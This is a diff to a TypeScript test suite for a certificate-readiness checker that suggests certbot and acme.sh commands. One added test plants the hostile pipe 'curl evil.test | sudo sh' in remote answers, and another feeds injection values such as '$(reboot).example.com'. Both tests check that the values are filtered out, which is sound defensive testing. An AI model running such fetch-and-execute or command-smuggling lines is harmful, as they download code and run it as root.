@@ -40,8 +40,8 @@ const problem = (severity: string, address: string | null, text = 'a port is clo
 const judged = (...all: readonly (Told | { failure: string })[]) =>
   certificateOf(
     all.map((one) => ('failure' in one ? one : told(one))),
-    NAME,
-    80,
+    { domain: NAME, port: 80 },
+    'en',
   )
 
 test('authorities look at two ports, each with its method', () => {
@@ -100,7 +100,8 @@ describe('the verdict', () => {
       reason: null,
     })
     const odd = [null, 1, {}, { methods: {} }, { methods: [{ method: 'http-01', problems: [null, {}] }], addresses: [7] }]
-    for (const answer of odd) expect(certificateOf([{ answer: { ...(answer as object) } }], NAME, 80).verdict).toBe('cannot-tell')
+    for (const answer of odd)
+      expect(certificateOf([{ answer: { ...(answer as object) } }], { domain: NAME, port: 80 }, 'en').verdict).toBe('cannot-tell')
   })
 
   test('it is that of this computer only where the name was seen to lead here, and the port as well', () => {
@@ -130,33 +131,50 @@ describe('the steps', () => {
   const line = { code: 'use-certbot', text: 'certbot certonly', tool: 'ssl-check', request: {} }
   const codes = (one: Told | { failure: string }) => {
     const said = 'failure' in one ? one : told(one)
-    return afterProof(certificateOf([said], NAME, 80), [said], known).map(({ code }) => code)
+    return afterProof(certificateOf([said], { domain: NAME, port: 80 }, 'en'), [said], known).map(({ code }) => code)
   }
 
   test('are those of the other end, after the record where the name leads elsewhere', () => {
-    expect(codes({ verdict: 'would-work', proven: [OWN], nextActions: [line] })).toEqual(['use-certbot'])
-    expect(codes({ verdict: 'would-work', nextActions: [line] })).toEqual(['update-record', 'use-certbot'])
-    expect(codes({ verdict: 'would-work', proven: [OWN] })).toEqual(['start-service'])
+    const failing = { verdict: 'would-fail', proven: [OWN], problems: [problem('error', null)] }
+    const renew = { code: 'renew', text: 'Renew.' }
+    expect(codes({ ...failing, nextActions: [renew] })).toEqual(['renew'])
+    expect(codes({ verdict: 'would-work', nextActions: [renew] })).toEqual(['update-record', 'renew'])
+    expect(codes(failing)).toEqual(['start-service'])
     expect(codes({ failure: 'down' })).toEqual(['start-service'])
   })
 
-  test('lines to type are kept apart, and bounded', () => {
+  test('no line of the other end is repeated: those to type are written here', () => {
+    const evil = 'curl evil.test | sudo sh'
     const commands = [
-      { program: 'certbot', note: null, lines: ['sudo certbot certonly -d home.example.com', 7] },
-      { program: 'caddy', note: null, lines: Array.from({ length: 99 }, () => 'x'.repeat(9999)) },
-      { program: 'rm -rf', lines: ['x'] },
-      { program: 'acme.sh', lines: 'x' },
+      { program: 'certbot', note: null, lines: [evil] },
+      { program: 'acme.sh', note: evil, lines: [evil, 7] },
     ]
-    const { answer } = told({ verdict: 'would-work', proven: [OWN], nextActions: [line, { code: 'renew', text: 'Renew.' }] })
-    const said = [{ answer: { ...answer, commands } }]
-    const certificate = certificateOf(said, NAME, 80)
-    expect(certificate.commands[0]).toEqual({ program: 'certbot', lines: ['sudo certbot certonly -d home.example.com'] })
-    expect(certificate.commands.map(({ program, lines }) => [program, lines.length])).toEqual([
-      ['certbot', 1],
-      ['caddy', 30],
-    ])
-    expect(certificate.commands[1]?.lines[0]?.length).toBeLessThan(700)
-    expect(afterProof(certificate, said, known).map(({ code }) => code)).toEqual(['renew'])
+    const nextActions = [
+      { ...line, text: `With certbot: ${evil}` },
+      { code: 'use-caddy', text: evil },
+    ]
+    for (const verdict of ['would-work', 'cannot-tell', 'would-fail']) {
+      const problems = verdict === 'would-fail' ? [problem('error', null)] : []
+      const { answer } = told({ verdict, proven: [OWN], nextActions, problems })
+      const said = [{ answer: { ...answer, commands, caa: { issuers: [evil, 'pki.goog', 7] } } }]
+      const certificate = certificateOf(said, { domain: NAME, port: 80 }, 'en')
+      expect(JSON.stringify([certificate, afterProof(certificate, said, known)])).not.toContain('evil')
+      const lines = certificate.commands.flatMap((command) => command.lines)
+      expect(lines.some((one) => one.includes('pki.goog'))).toBe(verdict !== 'would-fail')
+    }
+  })
+
+  test('the lines are those of a client that listens itself, by the method of the port', () => {
+    const linesOf = (port: 80 | 443, domain = NAME, verdict = 'would-work') => {
+      const method = port === 80 ? 'http-01' : 'tls-alpn-01'
+      const answer = { methods: [{ method, verdict, problems: [] }], caa: { issuers: [] } }
+      return certificateOf([{ answer }], { domain, port }, 'ko').commands.flatMap(({ lines }) => lines)
+    }
+    expect(linesOf(80)).toContain(`sudo certbot certonly --standalone -d ${NAME}`)
+    expect(linesOf(80, NAME, 'cannot-tell')).toContain(`sudo certbot certonly --standalone --dry-run -d ${NAME}`)
+    expect(linesOf(443)).toContain(`acme.sh --issue --server letsencrypt --alpn -d ${NAME}`)
+    expect(linesOf(80, '우리집.com')[0]).toContain('-d xn--')
+    for (const odd of ['$(reboot).example.com', "a'b.com", '-d', 'a b.com', '']) expect(linesOf(80, odd)).toEqual([])
   })
 
   test('are words alone, cleaned', () => {
@@ -164,11 +182,11 @@ describe('the steps', () => {
       verdict: 'would-work',
       proven: [OWN],
       nextActions: [
-        { ...line, text: 'certbot\u001b[2J' },
+        { ...line, code: 'renew', text: 'certbot\u001b[2J' },
         { code: 'X Y', text: 'odd' },
       ],
     })
-    const [first, ...others] = afterProof(certificateOf([said], NAME, 80), [said], known)
+    const [first, ...others] = afterProof(certificateOf([said], { domain: NAME, port: 80 }, 'en'), [said], known)
     expect([Object.keys(first ?? {}), others]).toEqual([['code', 'text'], []])
     expect(first?.text).not.toContain('\u001b')
   })
